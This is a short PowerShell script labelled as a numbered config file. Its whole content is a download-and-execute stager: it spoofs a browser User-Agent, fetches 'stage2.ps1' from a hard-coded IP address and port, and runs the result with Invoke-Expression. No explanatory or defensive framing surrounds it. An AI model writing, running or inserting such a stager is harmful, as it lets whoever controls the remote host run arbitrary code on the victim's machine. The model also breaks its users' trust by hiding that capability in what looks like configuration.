# config 8753 v3
$u = 'http://192.0.2.150:9001/'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent','Mozilla/5.0')
$s = $wc.DownloadString($u + 'stage2.ps1')
Invoke-Expression $s
